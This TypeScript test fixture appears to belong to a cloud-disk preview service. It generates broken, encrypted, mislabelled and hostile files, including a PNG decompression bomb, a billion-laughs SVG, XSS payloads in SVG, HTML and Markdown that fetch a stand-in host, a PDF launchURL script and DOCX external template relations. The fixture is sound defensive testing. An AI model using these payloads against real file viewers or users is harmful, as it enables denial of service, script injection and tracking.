import { execFile } from 'node:child_process'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { deflateSync } from 'node:zlib'
import type { Preview } from '@clouddisk/contract/previews'
import sharp from 'sharp'
import { programPath } from '../../src/conversion/protection.ts'
import { docx } from '../make-docx.ts'
import { manyPagesPdf } from '../pdfs.ts'
import { pdf, png } from '../pictures.ts'
import type { CorpusFile } from './corpus.ts'

/** Files that are broken, encrypted, mislabelled, far too large, or that want to do harm. */

export interface HostileFile extends CorpusFile {
  readonly expected: Partial<Preview>
}

const run = promisify(execFile)
const BROKEN = { state: 'failed', reason: 'broken' } as const

/** `home`: an address that none of them may reach. */
export async function makeHostileFiles(folder: string, home = 'http://203.0.113.1'): Promise<HostileFile[]> {
  const picture = png(160, 120, [200, 30, 30])
  const photo = await sharp(picture).jpeg().toBuffer()
  const letter = docx(['季度报告'])
  return [
    // Broken
    { name: 'cut.png', bytes: picture.subarray(0, 20), expected: { kind: 'picture', ...BROKEN } },
    { name: 'cut.docx', bytes: letter.subarray(0, letter.length >> 1), expected: { kind: 'pdf', ...BROKEN } },
    { name: 'noise.mkv', bytes: noise(3000), expected: { kind: 'video', ...BROKEN } },
    { name: 'noise.pdf', bytes: noise(3000), expected: { kind: 'pdf', ...BROKEN } },
    { name: 'noise.xls', bytes: noise(3000), expected: { kind: 'pdf', ...BROKEN } },
    { name: 'empty.pptx', bytes: Buffer.alloc(0), expected: { kind: 'pdf', ...BROKEN } },
    // Encrypted
    {
      name: 'password.pdf',
      bytes: manyPagesPdf({ pages: 1, password: 'secret' }),
      expected: { kind: 'pdf', state: 'ready' },
    },
    {
      name: 'password.docx',
      bytes: compoundFile('EncryptedPackage'),
      expected: { kind: 'pdf', state: 'unsupported', reason: 'encrypted' },
    },
    // Mislabelled
    {
      name: 'table.xls',
      bytes: Buffer.from('名称\t数量\n苹果\t12\n'),
      expected: { kind: 'pdf', state: 'ready' },
    },
    { name: 'photo.docx', bytes: photo, expected: { kind: 'picture', state: 'ready' } },
    { name: 'pdf.jpg', bytes: pdf('a PDF'), expected: { kind: 'pdf', state: 'ready' } },
    { name: 'program.mp4', bytes: Buffer.from('MZ\x90\0\x03\0\0\0'), expected: { kind: 'video', ...BROKEN } },
    { name: 'page.png', bytes: Buffer.from('<script>1</script>'), expected: { kind: 'picture', ...BROKEN } },
    // Far too large
    ...(await widePicture(folder)),
    {
      name: 'bomb.png',
      bytes: claiming(60_000),
      expected: { state: 'unsupported', reason: 'tooManyPixels' },
    },
    { name: 'bomb.svg', bytes: billionLaughs(), expected: { kind: 'picture', state: 'ready' } },
    // With intent
    { name: 'script.svg', bytes: scriptedDrawing(home), expected: { kind: 'picture', state: 'ready' } },
    { name: 'home.html', bytes: pageThatPhonesHome(home), expected: { kind: 'html', state: 'ready' } },
    { name: 'home.md', bytes: markdownThatPhonesHome(home), expected: { kind: 'text', state: 'ready' } },
    {
      name: 'script.pdf',
      bytes: manyPagesPdf({ pages: 1, link: home, script: `app.launchURL\\("${home}/pdf"\\);` }),
      expected: { kind: 'pdf', state: 'ready' },
    },
    {
      name: 'external.docx',
      bytes: docx(['template elsewhere'], externalRelations(home)),
      expected: { kind: 'pdf', state: 'ready' },
    },
  ]
}

/** The same each time. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length)
  let state = 42
  for (let at = 0; at < length; at++) {
    state = (state * 1_103_515_245 + 12_345) & 0x7fffffff
    bytes[at] = state >> 16
  }
  return bytes
}

/** The container of an Office file with a password, as far as its directory: one stream of this name. */
function compoundFile(stream: string): Buffer {
  const bytes = Buffer.alloc(3 * 512)
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
  bytes.writeUInt16LE(9, 0x1e)
  bytes.writeUInt32LE(1, 0x30)
  bytes.write('Root Entry', 2 * 512, 'utf16le')
  bytes.write(stream, 2 * 512 + 128, 'utf16le')
  return bytes
}

/** A real picture of 20,000 pixels, by ffmpeg where it is installed. */
async function widePicture(folder: string): Promise<HostileFile[]> {
  if (!(await programPath('ffmpeg'))) return []
  const path = join(folder, 'wide.png')
  await run('ffmpeg', ['-v', 'error', '-f', 'lavfi', '-i', 'color=size=20000x16', '-frames:v', '1', path])
  const expected = { kind: 'picture', state: 'unsupported', reason: 'tooManyPixels', width: 20_000 } as const
  return [{ name: 'wide.png', bytes: await readFile(path), expected }]
}

/** A PNG of few bytes that claims to have sides of so many pixels, all of them zero. */
function claiming(side: number): Buffer {
  const bytes = png(1, 1, [0, 0, 0])
  bytes.writeUInt32BE(side, 16)
  bytes.writeUInt32BE(side, 20)
  return Buffer.concat([bytes, deflateSync(Buffer.alloc(1_000_000))])
}

function billionLaughs(): Buffer {
  const levels = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`)
  return Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "lol">${levels.join('')}]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&l9;</text></svg>`,
  )
}

const SCRIPT = (home: string) =>
  `window.owned=1;parent.owned=1;document.title='owned';fetch('${home}/script');alert('owned')`

const scriptedDrawing = (home: string): Buffer =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="60" onload="${SCRIPT(home)}"><script>${SCRIPT(home)}</script><image xlink:href="${home}/svg.png" width="9" height="9"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${home}/frame"/></foreignObject></svg>`,
  )

const pageThatPhonesHome = (home: string): Buffer =>
  Buffer.from(
    `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${home}/refresh"><link rel="stylesheet" href="${home}/a.css"><base href="${home}/"></head><body onload="${SCRIPT(home)}"><h1>home</h1><img src="${home}/a.png" onerror="${SCRIPT(home)}"><iframe src="${home}/frame"></iframe><object data="${home}/object"></object><form action="${home}/form"><input autofocus onfocus="${SCRIPT(home)}"></form><script>${SCRIPT(home)}</script></body></html>`,
  )

const markdownThatPhonesHome = (home: string): Buffer =>
  Buffer.from(
    `# home\n\n![pixel](${home}/pixel.png)\n\n<script>${SCRIPT(home)}</script>\n\n<img src=x onerror="${SCRIPT(home)}">\n\n[link](javascript:${encodeURIComponent(SCRIPT(home))})\n`,
  )

const externalRelations = (home: string): string => {
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const one = (id: string, kind: string, path: string) =>
    `<Relationship Id="${id}" Type="${type}/${kind}" Target="${home}${path}" TargetMode="External"/>`
  return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${one('r1', 'attachedTemplate', '/template.dotm')}${one('r2', 'image', '/image.png')}${one('r3', 'subDocument', '/sub.docx')}</Relationships>`
}
